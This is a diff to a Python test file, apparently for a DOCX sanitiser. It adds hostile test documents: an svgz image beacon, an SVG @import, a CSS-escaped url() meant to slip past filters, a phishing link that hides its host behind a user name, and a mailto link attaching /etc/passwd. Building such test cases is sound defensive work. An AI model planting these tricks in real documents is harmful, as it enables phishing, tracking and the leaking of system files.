@@ -8,6 +8,7 @@ manifest whose fields have the wrong type.
 
 from __future__ import annotations
 
+import gzip
 import html
 import io
 import re
@@ -234,6 +235,42 @@ DOCX_ATTACKS: dict[str, list[Callable[[dict[str, bytes]], None]]] = {
         _add(
             "word/_rels/footer1.xml.rels", _rels(("rIdPix", "hyperlink", "http://127.0.0.1/p.png"))
         ),
+    ],
+    # Review 10b, L4.2 and L4.3: what the check could not read, and links it did not judge.
+    "gzip-compressed SVG (svgz)": [
+        _add(
+            "word/media/i.svg",
+            gzip.compress(
+                b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1/s.png"/>'
+                b"</svg>"
+            ),
+        )
+    ],
+    "SVG style that imports": [
+        _add(
+            "word/media/s.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "//127.0.0.1/x.css";'
+            b"</style></svg>",
+        )
+    ],
+    "SVG style with an escaped url()": [
+        _add(
+            "word/media/e.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: \\75 rl(x) }'
+            b"</style></svg>",
+        )
+    ],
+    "hyperlink with a user name before the host": [
+        _add(
+            "word/_rels/footer1.xml.rels",
+            _rels(("rIdH", "hyperlink", "https://www.un.org@127.0.0.1:8765/phish")),
+        )
+    ],
+    "mail link that attaches a file": [
+        _add(
+            "word/_rels/footer1.xml.rels",
+            _rels(("rIdH", "hyperlink", "mailto:a@example.org?attach=/etc/passwd")),
+        )
     ],
     # Review 7 M2: a part in UTF-16, which readers parse and python-docx copies unread.
     "a UTF-16 footer with INCLUDEPICTURE (review 7)": [_utf16_footer],
